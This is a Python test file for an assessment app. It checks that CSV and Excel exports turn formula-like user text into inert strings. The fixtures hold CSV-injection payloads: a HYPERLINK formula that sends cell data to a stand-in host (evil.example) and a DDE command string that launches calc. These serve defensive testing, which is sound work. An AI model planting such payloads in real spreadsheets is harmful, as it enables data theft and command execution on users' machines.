"""Every export neutralises every cell of people's text — headers, sheet names, data — in CSV and Excel, for the
results, the workshop's answers and the data appendix; the command line writes the same files as the app."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from assessment.cli import main
from assessment.content.framework import Framework
from assessment.engine.formula import TRIGGERS
from assessment.engine.report import ActionItem, Agreed, build_report
from assessment.engine.responses import Answer, Responses, parse_responses_csv, responses_csv
from assessment.reports.render import render
from assessment.reports.spreadsheets import sheet_title

LINK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Open")'
HOSTILE = [LINK, "+SUM(1,1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1"]


@pytest.fixture(scope="module")
def framework(tiny) -> Framework:
    """The tiny framework with formulas for names and statements: an uploaded framework is anyone's text too."""
    content = tiny.model_dump(mode="json")
    for index, principle in enumerate(content["principles"]):
        principle["name"] = f"{HOSTILE[index % len(HOSTILE)]} principle {index}"
        for statement in principle["statements"]:
            statement["text"] = f"=1+{statement['id']}"
    return Framework.model_validate(content)


@pytest.fixture(scope="module")
def answers(framework) -> Responses:
    """Eight people, every text column a formula: participant, organisation, sector (three or more people in each,
    so the sectors reach the By sector sheet's header row) and comment."""
    return Responses.from_answers(
        Answer(participant=HOSTILE[person % len(HOSTILE)] + str(person), statement=statement.id,
               score=1 + (person + number) % 5, organisation=HOSTILE[(person + 1) % len(HOSTILE)],
               sector=LINK if person % 2 else "@acute", comment=HOSTILE[(person + number) % len(HOSTILE)])
        for person in range(8) for number, statement in enumerate(framework.statements))


@pytest.fixture(scope="module")
def report(framework, answers):
    first = framework.principles[0]
    return build_report(framework, answers, partnership=LINK, place="-place", workshop="+workshop",
                        held_on=date(2026, 5, 1), agreed={first.id: Agreed(score=2, note="=note()")},
                        actions=[ActionItem(principle=first.name, text="=action()", owner="@owner", due=None)],
                        today=date(2026, 5, 2))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]


def test_the_results_csv_has_no_cell_a_spreadsheet_would_run(report):
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert _unsafe(cells) == []
    assert "'" + report.principles[0].name in cells and "'=note()" in cells


def test_every_excel_cell_from_people_is_text_headers_and_sheet_titles_too(report, answers):
    workbook = load_workbook(io.BytesIO(render(report, "xlsx", responses=answers)))
    assert workbook.sheetnames == ["Principles", "Recommendations", "Statements", "By sector", "About sectors",
                                   "Exemplars", "Actions", "Second votes", "Last actions reviewed", "Comments",
                                   "Answers"]
    header = list(next(workbook["By sector"].iter_rows(max_row=1)))
    assert LINK + " (4)" in [cell.value for cell in header]  # the sector from the defect, as a header
    formulas = [(sheet.title, cell.coordinate) for sheet in workbook for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)]
    assert texts and all(cell.data_type == "s" for cell in texts)
    # with Excel's quote prefix too, so that editing such a cell in Excel never turns it into a live formula
    assert all(cell.quotePrefix for sheet in workbook for row in sheet.iter_rows() for cell in row
               if isinstance(cell.value, str))
    answers_sheet = [cell.value for row in workbook["Answers"].iter_rows(min_row=2) for cell in row]
    assert LINK + "0" in answers_sheet and "=cmd|'/c calc'!A1" in answers_sheet


@pytest.mark.parametrize("name", [LINK, "a[b]:c*d?e/f\\g", "'quoted'", "x" * 40, "", "Principles"])
def test_sheet_titles_are_ones_excel_accepts(name):
    title = sheet_title(name, {"Principles"})
    assert 1 <= len(title) <= 31 and not set(title) & set("[]:*?/\\")
    assert not title.startswith(("'", *TRIGGERS)) and not title.endswith("'") and title.lower() != "principles"


def test_the_answers_csv_neutralises_every_column_and_reads_back_as_given(framework, answers):
    text = responses_csv(answers)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert _unsafe(cells) == []
    back = parse_responses_csv(text.encode(), framework, source="round trip")
    assert set(back.table["participant"]) == set(answers.table["participant"])
    assert set(back.table["sector"]) == {LINK, "@acute"} and set(back.table["comment"]) == set(HOSTILE)


def test_the_command_line_writes_the_same_results_files_as_the_app(tmp_path):
    from assessment.content.exemplar import exemplar_library
    from assessment.content.framework import builtin_framework
    from assessment.services import participation, reports
    from assessment.services import results as stored_results
    from assessment.services.database import open_database
    from assessment.settings import get_settings
    from tests.utils.workshops import ADMIN, join, new_workshop

    db = open_database(get_settings(), seed=False)
    salford = builtin_framework("salford-behaviours")
    created = new_workshop(db, salford, partnership_name=LINK, place="Exportford", held_on=date(2026, 6, 1),
                           exemplar_ids=["salford"], sectors=[LINK])
    for person in range(3):
        participant = join(db, created, sector=LINK, organisation="=org()")
        for number, statement in enumerate(salford.statements[:6]):
            participation.save_answer(db, participant_id=participant, framework_id=salford.id,
                                      statement_id=statement.id, value=1 + (person + number) % 5, comment="=1+1")
    # what the Agree page's buttons give
    report = reports.workshop_report(db, actor=ADMIN, workshop_id=created.id, framework_id=salford.id,
                                     exemplars=[exemplar_library()["salford"]], brand=reports.branding(get_settings()))
    responses = stored_results.responses(db, actor=ADMIN, workshop_id=created.id, framework_id=salford.id)
    app_xlsx, app_csv = render(report, "xlsx", responses=responses), render(report, "csv")
    db.dispose()
    for extension in ("xlsx", "csv"):
        assert main(["report", "--framework", salford.id, "--workshop", created.join_code,
                     "-o", str(tmp_path / f"results.{extension}")]) == 0
    assert (tmp_path / "results.csv").read_bytes() == app_csv

    def cells(data: bytes) -> dict[str, list[list[object]]]:
        book = load_workbook(io.BytesIO(data))
        return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}

    assert cells((tmp_path / "results.xlsx").read_bytes()) == cells(app_xlsx)
